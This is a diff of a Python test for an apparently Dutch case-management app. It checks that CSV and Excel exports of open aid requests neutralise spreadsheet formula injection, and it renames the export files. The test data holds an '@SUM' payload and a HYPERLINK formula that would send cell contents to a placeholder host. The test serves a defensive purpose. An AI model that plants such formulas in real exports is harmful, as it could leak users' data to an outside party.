@@ -122,11 +122,13 @@ def test_case_list_downloads_are_neutralised(tmp_path: Path, monkeypatch: pytest
                               "aangevraagd_op": "2025-06-02"}])
     database.close()
     at = open_app(tmp_path / "test.duckdb", monkeypatch, "pages/k3_hulpinzet.py")
-    csv = aangeboden["k3_open_aanvragen.csv"].decode("utf-8-sig").splitlines()
+    # the file name says what is in it: list, peildatum and selection (issue 12)
+    naam = "k3-open-aanvragen_peildatum-30-09-2025_hele-organisatie"
+    csv = aangeboden[f"{naam}.csv"].decode("utf-8-sig").splitlines()
     assert csv[0] == "Aanvraag;Maatregel;Hulpvorm;Aangevraagd op;Dagen open;Team;Cluster;Soort"
-    assert csv[1] == ("H1;M1;'@SUM(1+1);2025-06-02;120;\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,"
+    assert csv[1] == ("H1;M1;'@SUM(1+1);02-06-2025;120;\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,"
                       "\"\"klik\"\")\";Utrecht/Flevoland;OTS")  # the quoted field holds '=HYPERLINK(...)
-    blad, teksten = xlsx_cellen(aangeboden["k3_open_aanvragen.xlsx"])
+    blad, teksten = xlsx_cellen(aangeboden[f"{naam}.xlsx"])
     assert "<f>" not in blad and "@SUM(1+1)" in teksten and "HYPERLINK" in teksten
     assert not at.exception
 
